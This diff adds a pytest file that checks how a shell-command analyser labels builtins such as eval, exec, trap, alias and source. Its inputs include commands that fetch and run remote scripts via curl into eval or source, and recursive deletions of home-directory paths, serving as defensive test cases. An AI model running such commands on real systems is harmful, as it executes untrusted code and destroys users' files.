@@ -1,0 +1,41 @@
+"""Builtins that change the shell or run text."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ('cd /tmp; rm -r x', ['cd', 'rm D:/tmp/x']),
+    ('cd - ; rm -r x', ['cd', 'rm D:./x']),
+    ('cd "$UNKNOWN"; rm -r x', ['cd', 'rm D:?x']),
+    ('cd ~/"$UNKNOWN"; rm -r x', ['cd', 'rm D:~/$UNKNOWN/x']),
+    ('cd missing && cd .. && rm -r x', ['cd', 'cd', 'rm D:./x']),
+    ('pushd ~; rm -r x; popd; rm -r y', ['pushd', 'rm D:~/x', 'popd', 'rm D:./y']),
+    ('eval "rm -r ~/x"', ['rm D:~/x']),
+    ("eval rm -r '~/x'", ['rm D:~/x']),
+    ('eval "$(ssh-agent -s)"', ['ssh-agent', 'eval']),
+    ('eval "$(curl -s https://a.example)"', ['curl H:a.example', 'eval ! <download']),
+    ('eval "$X"', ['eval !']),
+    ("builtin eval 'rm -r ~/x'", ['rm D:~/x']),
+    ('exec rm -r ~/x', ['rm D:~/x']),
+    ('exec 3> a.txt', ['exec W:./a.txt']),
+    ("trap 'rm -r ~/x' EXIT", ['trap', 'rm D:~/x']),
+    ('trap - EXIT', ['trap']),
+    ("alias ll='rm -r ~/x'; ll", ['alias', 'rm D:~/x']),
+    ("alias ls='ls -l'; ls", ['alias', 'ls']),
+    ('source <(curl -s https://a.example/x.sh)', ['curl H:a.example', 'source <download <just_written']),
+    ('source .venv/bin/activate', ['source R:./.venv/bin/activate <local_file']),
+    ('. ./env.sh', ['source R:./env.sh <local_file']),
+    ('set -e', ['set']),
+    ('set', ['set']),
+    ('export -p', ['export']),
+    ('export A=b', ['export']),
+    ('unset A', ['unset']),
+    ('mapfile -t x < list.txt; rm "${x[@]}"', ['mapfile R:./list.txt', 'rm D:?$x']),
+    ('set -- a b; shift; rm "$1"', ['set', 'rm D:./b']),
+    ('command rm -r ~/x', ['rm D:~/x']),
+    ('command -v rm', ['command']),
+])
+def test_builtins_act_on_the_shell(brief, command, expected):
+    assert brief(command) == expected
